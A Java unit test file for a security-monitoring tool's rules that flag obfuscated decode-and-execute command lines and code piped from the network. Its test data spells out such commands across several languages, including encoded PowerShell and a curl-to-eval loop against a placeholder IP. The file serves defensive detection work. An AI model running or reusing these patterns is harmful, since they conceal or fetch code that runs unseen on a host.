package io.totem.policy.warning;

import static io.totem.policy.testing.SampleBuilder.program;
import static org.assertj.core.api.Assertions.assertThat;

import io.totem.policy.facts.Behaviour;
import io.totem.policy.facts.Relations;
import io.totem.policy.port.Severity;
import io.totem.policy.testing.SampleBuilder;
import io.totem.policy.testing.Scene;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

class DecodedCodeRuleTest {

    @ParameterizedTest
    @CsvSource(delimiter = '~', textBlock = """
                    /usr/bin/python3.13~-c~import base64;exec(base64.b64decode('aQ=='))
                    /usr/bin/python3.13~-c~import zlib,marshal;c=marshal.loads(x);exec(c)
                    /usr/bin/perl~-e~eval unpack u=>q{_x}
                    /usr/bin/perl~-MMIME::Base64 -e~eval(decode_base64('aQ=='))
                    /usr/bin/php8.4~-r~eval(base64_decode('aQ=='));
                    /usr/bin/php8.4~-r~assert(gzinflate(hex2bin('00')));
                    /usr/bin/node~-e~eval(Buffer.from('aQ==','base64').toString())
                    /usr/bin/node~-e~new Function(atob('aQ=='))()
                    /usr/bin/ruby3.3~-e~eval('aQ=='.unpack1('m'))
                    /usr/bin/python3.13~-c~exec(''.join(chr(c) for c in [105,100]))
                    /usr/bin/python3.13~-c~exec(chr(105)+chr(109))
                    /usr/bin/python3.13~-c~exec("".join(map(chr,[105,100])))
                    /usr/bin/python3.13~-c~import codecs;exec(codecs.decode('vzcbeg','rot13'))
                    /usr/bin/python3.13~-c~exec(bytes.fromhex('6964'))
                    /usr/bin/python3.13~-c~exec("tropmi"[::-1])
                    /usr/bin/perl~-e~eval pack("H*","73")
                    /usr/bin/perl~-e~$_="fyrrc";tr/a-zA-Z/n-za-mN-ZA-M/;eval $_
                    /usr/bin/php8.4~-r~eval(str_rot13('flfgrz'));
                    /usr/bin/php8.4~-r~eval(strrev(';)'));
                    /usr/bin/node~-e~eval(String.fromCharCode(115,101))
                    /usr/bin/node~-e~require("vm").runInNewContext(Buffer.from("aQ==","base64").toString())
                    /usr/bin/bash~-c~$'\\163\\154\\145\\145\\160' 2887; :
                    /opt/microsoft/powershell/7/pwsh~-NoProfile -enc~ZQBjAGgAbwA=
                    /opt/microsoft/powershell/7/pwsh~-EncodedCommand~ZQBjAGgAbwA=
                    /usr/bin/bash~-c~while :; do eval "$(echo aQ== | base64 -d)"; sleep 9; done
                    """)
    void a_text_that_decodes_another_and_runs_it_is_danger(String path, String option, String text) {
        assertThat(told(path, option, text)).hasValueSatisfying(warning -> {
            assertThat(warning.severity()).isEqualTo(Severity.DANGER);
            assertThat(warning.why().en()).contains("decodes another one and runs that");
        });
    }

    @ParameterizedTest
    @CsvSource(delimiter = '~', textBlock = """
                    /usr/bin/python3.13~-c~import base64,sys;print(base64.b64decode(sys.argv[1]))
                    /usr/bin/python3.13~-c~from multiprocessing.spawn import spawn_main; spawn_main(tracker_fd=5)
                    /usr/bin/perl~-e~print unpack('H*', 'x')
                    /usr/bin/node~-e~console.log(Buffer.from('aQ==','base64').toString())
                    /usr/bin/php8.4~-r~echo base64_decode('aQ==');
                    /usr/bin/bash~-c~token=$(echo aQ== | base64 -d); run "$token"
                    /usr/bin/vi~-c~eval base64_decode
                    /usr/bin/python3.13~-c~print([chr(c) for c in (105,100)], "abc"[::-1])
                    /usr/bin/perl~-e~$_="x";tr/a-z/A-Z/;system("ls")
                    /usr/bin/node~-e~console.log([1,2].reverse(), /x/.exec("x"))
                    /usr/bin/python3.13~-c~import re;re.compile('x');print('abc'[::-1], chr(65)+'x')
                    /usr/bin/perl~-e~eval { print pack("H*","73") }
                    /usr/bin/bash~-c~printf '\\033[1m%s\\033[0m' done
                    /opt/microsoft/powershell/7/pwsh~-NoProfile -Command~Get-Process
                    /opt/microsoft/powershell/7/pwsh~-ExecutionPolicy Bypass -File~x.ps1
                    /opt/microsoft/powershell/7/pwsh~-File deploy.ps1 -e~prod
                    /opt/microsoft/powershell/7/pwsh~deploy.ps1 -e~prod
                    """)
    void a_text_that_only_decodes_is_not(String path, String option, String text) {
        assertThat(told(path, option, text)).isEmpty();
    }

    @Test
    void a_shell_that_reads_what_is_decoded_for_it_is_danger() {
        assertThat(Scene.of(program("/usr/bin/bash").commandLine("bash"))
                        .behaviour(Behaviour.NONE.with(Relations.NONE.decodedBy("base64")))
                        .warning(WarningCode.DECODED_CODE))
                .hasValueSatisfying(
                        warning -> assertThat(warning.why().en()).contains("runs what base64 decodes for it"));
    }

    @Test
    void what_is_only_unpacked_is_a_caution_and_a_persons_own_is_none() {
        assertThat(unpacked(program("/usr/bin/bash").root())).contains(Severity.CAUTION);
        assertThat(unpacked(program("/usr/bin/bash").uid(33))).contains(Severity.CAUTION);
        assertThat(unpacked(program("/usr/bin/bash"))).isEmpty();
    }

    private static Optional<Severity> unpacked(SampleBuilder shell) {
        return Scene.of(shell.commandLine("bash"))
                .behaviour(Behaviour.NONE.with(Relations.NONE.decodedBy("gunzip")))
                .warning(WarningCode.DECODED_CODE)
                .map(Warning::severity);
    }

    /** With nobody but a person behind it: {@code curl … | bash} is how programs are installed. */
    @Test
    void what_a_logged_in_person_pipes_into_their_own_shell_is_a_caution_and_elsewhere_it_is_danger() {
        assertThat(piped(program("/usr/bin/bash"))).contains(Severity.CAUTION);
        for (SampleBuilder other : List.of(
                program("/usr/bin/bash").root(),
                program("/usr/bin/bash").uid(33),
                program("/usr/bin/bash").uid(0).realUid(1000),
                program("/usr/bin/bash").cgroup("/system.slice/shop.service"),
                program("/usr/bin/bash").cgroup("/system.slice/cron.service"),
                program("/usr/bin/bash").cgroup("/user.slice/user-1000.slice/user@1000.service/app.slice/x.service"),
                program("/usr/bin/bash").container("c".repeat(64)))) {
            assertThat(piped(other)).contains(Severity.DANGER);
        }
        assertThat(piped(program("/usr/sbin/cron").root(), program("/usr/bin/bash")))
                .contains(Severity.DANGER);
        assertThat(piped(program("/usr/sbin/nginx").uid(33), program("/usr/bin/bash")))
                .contains(Severity.DANGER);
    }

    private static Optional<Severity> piped(SampleBuilder... line) {
        line[line.length - 1].commandLine("bash", "-c", "eval \"$(curl -fsS https://get.example/x)\"");
        return Scene.of(line).warning(WarningCode.PIPED_FROM_NETWORK).map(Warning::severity);
    }

    @Test
    void a_script_that_came_through_a_pipe_nobody_writes_into_is_a_caution_that_does_not_say_from_where() {
        Scene scene = Scene.of(program("/usr/bin/bash").root().commandLine("bash", "/dev/fd/63"))
                .behaviour(Behaviour.NONE.with(Relations.NONE.cameThroughPipe()));
        assertThat(scene.warning(WarningCode.PIPED_FROM_NETWORK)).hasValueSatisfying(warning -> {
            assertThat(warning.severity()).isEqualTo(Severity.CAUTION);
            assertThat(warning.argument()).isEmpty();
            assertThat(warning.why().en()).contains("it cannot be told where the script came from");
        });
    }

    @Test
    void a_text_that_fetches_what_it_runs_is_piped_from_the_network() {
        assertThat(fetched(
                        "/usr/bin/bash", "-c", "while :; do eval \"$(curl -s http://203.0.113.9/c)\"; sleep 9; done"))
                .hasValueSatisfying(warning -> assertThat(warning.argument()).contains("curl"));
        assertThat(fetched(
                        "/usr/bin/python3.13", "-c", "import urllib.request as r;exec(r.urlopen('http://x').read())"))
                .isPresent();
        assertThat(fetched(
                        "/usr/bin/python3.13", "-c", "import urllib.request as r;print(r.urlopen('http://x').read())"))
                .isEmpty();
        assertThat(fetched("/usr/bin/bash", "-c", "curl -s http://203.0.113.9/c > f; sleep 9"))
                .isEmpty();
    }

    private static Optional<Warning> told(String path, String option, String text) {
        return Scene.of(program(path).commandLine(words(path, option, text))).warning(WarningCode.DECODED_CODE);
    }

    private static Optional<Warning> fetched(String path, String option, String text) {
        return Scene.of(program(path).commandLine(words(path, option, text))).warning(WarningCode.PIPED_FROM_NETWORK);
    }

    private static String[] words(String path, String options, String text) {
        String[] between = options.split(" ");
        String[] words = new String[between.length + 2];
        words[0] = path;
        System.arraycopy(between, 0, words, 1, between.length);
        words[words.length - 1] = text;
        return words;
    }
}
